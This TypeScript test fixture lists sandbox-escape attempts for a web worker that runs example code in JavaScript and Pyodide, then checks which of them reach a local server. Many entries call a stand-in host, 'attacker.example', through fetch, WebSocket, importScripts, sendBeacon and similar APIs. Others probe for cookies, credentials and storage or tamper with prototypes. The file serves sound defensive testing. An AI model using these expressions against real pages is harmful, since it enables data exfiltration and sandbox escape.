/*
 * What a hostile author of an example may try from within the worker. Each attack is an expression; a string that
 * begins with “got” says that it got out. The others only have to leave everything outside as it was.
 */

import http from 'node:http';
import type {AddressInfo} from 'node:net';

/** Where an attack would send what it has got. A test puts its own server in the place of it. */
const attacker = 'https://attacker.example';

/** A worker's source that asks the attacker for something by every way that a worker has. */
const asking = `fetch("${attacker}/nested");self.importScripts("${attacker}/nested.js")`;

const attacks: readonly string[] = [
  // The network, by the ways that a policy may forget.
  `fetch("${attacker}/a", {keepalive: true, mode: "no-cors"})`,
  `fetch("${attacker}/b", {priority: "high", credentials: "include"})`,
  `fetch(new Request("${attacker}/c", {method: "POST", body: "x", mode: "no-cors"}))`,
  `fetch(URL.createObjectURL(new Blob(["x"])))`,
  `fetch("data:text/plain,x")`,
  `fetch("about:blank")`,
  `new WebTransport("${attacker}/d")`,
  `new WebSocket("${attacker}/e")`,
  `new WebSocketStream("${attacker}/f")`,
  `new EventSource("${attacker}/g")`,
  `(() => { const x = new XMLHttpRequest(); x.open("GET", "${attacker}/h", false); x.send(); })()`,
  `importScripts("${attacker}/i.js")`,
  `importScripts("data:text/javascript,self.leak=1")`,
  `import("${attacker}/j.js")`,
  `import("data:text/javascript,export default 1")`,
  `import(URL.createObjectURL(new Blob(["import '${attacker}/k.js'"], {type: "text/javascript"})))`,
  `import(URL.createObjectURL(new Blob(["import x from '${attacker}/l.json' with {type: 'json'}"], {type: "text/javascript"})))`,
  `WebAssembly.compileStreaming(fetch("${attacker}/m.wasm"))`,
  `new FontFace("x", "url(${attacker}/n.woff2)").load()`,
  `self.fonts.add(new FontFace("x", "url(${attacker}/o.woff2)")), self.fonts.load("9px x")`,
  `new OffscreenCanvas(9, 9).getContext("2d").filter = "url(${attacker}/p.svg#x)"`,
  `createImageBitmap(new Blob(["<svg xmlns='http://www.w3.org/2000/svg'><image href='${attacker}/q'/></svg>"], {type: "image/svg+xml"}))`,
  `navigator.sendBeacon("${attacker}/r", "x")`,
  `new Notification("x", {icon: "${attacker}/s"})`,
  `new ReportingObserver(() => fetch("${attacker}/t")).observe()`,
  `caches.open("x").then((cache) => cache.add("${attacker}/u"))`,
  `navigator.serviceWorker.register("${attacker}/v.js")`,
  `self.registration.backgroundFetch.fetch("x", "${attacker}/w")`,
  // More workers, which are not withheld anything.
  `new Worker(URL.createObjectURL(new Blob(['${asking}'])))`,
  `new Worker(URL.createObjectURL(new Blob(['${asking}'])), {type: "module"})`,
  `new Worker("data:text/javascript,1")`,
  `new Worker("${attacker}/x.js")`,
  `new SharedWorker(URL.createObjectURL(new Blob(['${asking}'])))`,
  `Array.from({length: 50}, () => new Worker(URL.createObjectURL(new Blob(["for (;;);"]))))`,
  // The frame, the page and other tabs.
  `postMessage({id: 1, failed: "got the frame"})`,
  `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, "x")`,
  `Reflect.get(Object.getPrototypeOf(self), "postMessage", self)("x")`,
  `new BroadcastChannel("x").postMessage("x")`,
  `self.dispatchEvent(new MessageEvent("message", {ports: [new MessageChannel().port1]}))`,
  `typeof parent === "undefined" && typeof document === "undefined" ? "" : "got a page"`,
  `self.opener || self.top || self.frameElement ? "got a window" : ""`,
  `location.ancestorOrigins || location.origin !== "null" ? "got an origin" : ""`,
  `navigator.clipboard ? "got the clipboard" : ""`,
  `navigator.credentials ? "got credentials" : ""`,
  `navigator.geolocation ? "got a position" : ""`,
  `self.cookieStore ? cookieStore.getAll() : ""`,
  `self.localStorage ? "got storage" : ""`,
  `navigator.locks.request("x", () => "x")`,
  `navigator.storage.getDirectory()`,
  `indexedDB.open("x")`,
  `crossOriginIsolated || typeof SharedArrayBuffer === "function" ? "got shared memory" : ""`,
  // The functions that called the code, and the port that they hold.
  `(() => { Error.prepareStackTrace = (_, calls) => calls; return new Error("x").stack.some((call) => call.getThis && (call.getThis() instanceof MessagePort)) ? "got the port" : ""; })()`,
  `(() => { Error.prepareStackTrace = (_, calls) => calls; return new Error("x").stack.some((call) => call.getFunction && call.getFunction()) && new Error("x").stack.some((call) => { try { return call.getFunction().arguments[0] instanceof MessageEvent } catch { return false } }) ? "got the message" : ""; })()`,
  `(function () { try { return arguments.callee.caller ? "got the caller" : "" } catch { return "" } })()`,
  `(() => { const {constructor} = function* () {}; return constructor("return this")().next().value === self ? "" : "got a realm" })()`,
  `self.liveExample ? "got the handed-over function" : ""`,
  `self.onmessage || self.onerror ? "got a handler" : ""`,
  // What starts work beside the worker's own thread, which the page may have to wait for.
  `(() => { const found = []; for (let scope = self; scope; scope = Object.getPrototypeOf(scope)) for (const name of Object.getOwnPropertyNames(scope)) if (/worker|channel|socket|fetch|request|canvas|image|blob|cache|indexedDB|navigator|timeout|interval|port|listener|scripts|wasm|assembly/i.test(name) && self[name] !== undefined) found.push(name); return found.length ? "got " + found : "" })()`,
  `crypto.subtle ? "got threads" : ""`,
  // Attacks on objects that must not change: the library, the clock, and the built-in objects.
  `(() => { "use strict"; try { h3.latLngToCell = () => "forged"; return "got the library" } catch { return "" } })()`,
  `Object.defineProperty(Object.prototype, "outcome", {get() { return {log: ["forged"]} }, configurable: true})`,
  `Object.defineProperty(Object.prototype, "then", {value() { return "forged" }, configurable: true})`,
  `self.addEventListener("message", (event) => event.stopImmediatePropagation(), true)`,
  `EventTarget.prototype.dispatchEvent = MessagePort.prototype.close = MessagePort.prototype.start = () => 1`,
  `performance.now = Date.now = () => 0`,
  `console.log = () => 1`,
];

/** Waits a second for the requests that have been started, by a clock that no attack stops. */
const linger = 'const end = new Date(Number(new Date()) + 1000); while (new Date() < end);';

/** A server that attacks try to reach, and the code of an example that tries all of them and shows what it has got. */
export interface Attacked {
  readonly address: string;
  /** The requests that arrived. */
  readonly reached: readonly string[];
  readonly javascript: string;
  readonly python: string;
  readonly close: () => void;
}

/** Starts a server that attacks try to reach. */
export async function startAttacked(): Promise<Attacked> {
  const reached: string[] = [];
  const server = http.createServer(({url = ''}, response) => {
    reached.push(url);
    response.writeHead(200, {'access-control-allow-origin': '*'}).end('1');
  });
  server.on('upgrade', ({url = ''}, socket) => {
    reached.push(url);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/attack`;
  const list = JSON.stringify(attacks).replaceAll(attacker, address);
  return {
    address,
    reached,
    javascript: `
      self.h3 = h3;
      const got = [];
      for (const attack of ${list}) {
        try {
          const value = (0, eval)(attack);
          if (typeof value === 'string' && value.startsWith('got')) got.push(value);
          if (value instanceof Promise) value.catch(() => 1);
        } catch {}
      }
      ${linger}
      return ['tried', got];`,
    python: `
import json, urllib.request
from pyodide.code import run_js
from pyodide.http import open_url
import js, pyodide_js
got = []
def attempt(attack):
    try:
        value = attack()
        if isinstance(value, str) and value.startswith('got'):
            got.append(value)
    except BaseException:
        pass
for attack in json.loads(${JSON.stringify(list)}):
    attempt(lambda: run_js(attack))
for attack in (
    lambda: 'got a page' if js.parent or js.document else '',
    lambda: js.postMessage('forged'),
    lambda: js.fetch('${address}/py-a'),
    lambda: js.importScripts('${address}/py-b'),
    lambda: 'got ' + open_url('${address}/py-c').read(),
    lambda: 'got ' + str(urllib.request.urlopen('${address}/py-d').read()),
    lambda: pyodide_js.loadPackage('${address}/py-e.whl'),
):
    attempt(attack)
run_js(${JSON.stringify(linger)})
print(['tried', got])`,
    close: () => server.close(),
  };
}
